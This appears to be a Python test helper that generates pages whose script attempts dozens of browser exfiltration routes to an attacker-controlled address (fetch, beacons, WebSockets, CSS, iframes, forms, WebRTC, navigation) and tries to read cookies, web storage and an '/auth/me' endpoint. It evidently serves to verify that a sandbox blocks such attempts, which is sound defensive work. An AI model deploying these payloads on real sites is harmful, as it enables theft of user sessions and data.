"""What a page's script could try in order to send its data away, or to read what is not its own.

`U` is an address of the attacker's. Each attack names what the attacker would see; one that is tried tells the page
around it so: a page that simply failed is no proof of anything.
"""

QUIET = {
    "fetch": "fetch(U + 'fetch')",
    "fetch-no-cors": "fetch(U + 'fetch-no-cors', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', U + 'xhr'); x.send()",
    "websocket": "new WebSocket(U.replace('http', 'ws') + 'websocket')",
    "eventsource": "new EventSource(U + 'eventsource')",
    "beacon": "navigator.sendBeacon(U + 'beacon', 'x')",
    "img": "new Image().src = U + 'img'",
    "picture": "add(`<img srcset='${U}picture 1x'>`)",
    "video": "add(`<video src='${U}video' autoplay></video>`)",
    "css-url": "add(`<div style='background: url(${U}css-url); height: 9px'>x</div>`)",
    "css-import": "add(`<style>@import url(${U}css-import);</style>`)",
    "stylesheet": "add(`<link rel=stylesheet href='${U}stylesheet'>`)",
    "font": "const f = new FontFace('f', `url(${U}font)`); document.fonts.add(f); f.load().catch(() => {})",
    "svg-image": "add(`<svg><image href='${U}svg-image' width=9 height=9 /></svg>`)",
    "prefetch": "add(`<link rel=prefetch href='${U}prefetch'>`)",
    "preload": "add(`<link rel=preload as=image href='${U}preload'>`)",
    "script": "const s = document.createElement('script'); s.src = U + 'script'; document.head.append(s)",
    "import": "import(U + 'import').catch(() => {})",
    "iframe": "add(`<iframe src='${U}iframe'></iframe>`)",
    "object": "add(`<object data='${U}object'></object>`)",
    "embed": "add(`<embed src='${U}embed'>`)",
    "srcdoc": "add(`<iframe srcdoc=\"<img src='${U}srcdoc'>\"></iframe>`)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${U}worker')`])))",
    "form": """
        add(`<iframe name=alvo></iframe><form action='${U}form' target=alvo></form>`).querySelector('form').submit()""",
    "ping": "add(`<a ping='${U}ping' href='#x'>x</a>`).querySelector('a').click()",
    "datagram": """
        const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${UDP}`}]});
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))""",
}
"""These leave the page where it is: all are tried at once."""
UNSEEN = {
    "preconnect": "add(`<link rel=preconnect href='${BARE}'>`)",
    "dns-prefetch": "add(`<link rel=dns-prefetch href='//segredo.invalid'>`)",
    "speculation": """
        const s = document.createElement('script'); s.type = 'speculationrules';
        const rule = {source: 'list', urls: [U + 'speculation'], eagerness: 'immediate'};
        s.textContent = JSON.stringify({prefetch: [rule]});
        document.head.append(s)""",
    "webtransport": "new WebTransport(U.replace('http:', 'https:') + 'webtransport').closed.catch(() => {})",
    "script-url": "add(`<iframe src=\"javascript:fetch('${U}script-url')\"></iframe>`)",
}
"""These too, but an unprotected page does not always show them to the attacker, or shows them under another's name."""
LEAVING = {
    "location": "location.href = U + 'location'",
    "replace": "location.replace(U + 'replace')",
    "navigate": "navigation.navigate(U + 'navigate')",
    "refresh": "add(`<meta http-equiv=refresh content='0;url=${U}refresh'>`)",
    "link": "add(`<a href='${U}link'>x</a>`).querySelector('a').click()",
    "link-top": "add(`<a target=_top href='${U}link-top'>x</a>`).querySelector('a').click()",
    "link-blank": "add(`<a target=_blank href='${U}link-blank'>x</a>`).querySelector('a').click()",
    "open": "window.open(U + 'open')",
    "top": "top.location = U + 'top'",
    "parent": "parent.location = U + 'parent'",
    "form-here": "add(`<form action='${U}form-here'></form>`).querySelector('form').submit()",
    "form-post": "add(`<form method=post action='${U}form-post'></form>`).querySelector('form').submit()",
}
"""These would take the page away, with data in the address: one page each."""
NESTED_PEER = """
    add(`<iframe srcdoc="<script>
        const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${UDP}'}]});
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    </scr` + `ipt>"></iframe>`)
"""
"""A peer connection of a frame inside the page, where nobody took the means away. Chromium ends the page for it."""
READING = """
    const read = {
        origin: () => self.origin,
        parent: () => parent.document.title,
        top: () => top.location.href,
        cookie: () => document.cookie,
        local: () => localStorage.getItem('segredo'),
        session: () => sessionStorage.getItem('segredo'),
        database: () => String(indexedDB.open('segredo')),
        caches: () => caches.open('segredo').then(() => 'open'),
        me: () => fetch('/auth/me').then((answer) => answer.text()),
        worker: () => navigator.serviceWorker.register('/assets/x.js').then(() => 'registered'),
    };
    (async () => {
        for (const [name, run] of Object.entries(read)) {
            let said;
            try { said = 'read ' + (await run()); } catch (error) { said = 'refused'; }
            parent.postMessage({dito: `${name}=${said}`}, '*');
        }
        parent.postMessage({dito: 'read:all'}, '*');
    })();
"""
"""Says of everything whether it could be read."""


def attack(url: str, bare_url: str, udp_port: int, attacks: dict[str, str]) -> str:
    """A page's content that tries these."""
    tries = "".join(
        f"(() => {{ try {{ {code} }} catch (error) {{}} say('tried:{name}') }})();" for name, code in attacks.items()
    )
    return f"""<p>ataque</p><script>
        const U = '{url}/', BARE = '{bare_url}', UDP = {udp_port};
        const say = (words) => parent.postMessage({{dito: words}}, '*');
        const add = (html) => {{
            const holder = document.createElement('div'); holder.innerHTML = html; document.body.append(holder);
            return holder;
        }};
        {tries}
    </script>"""
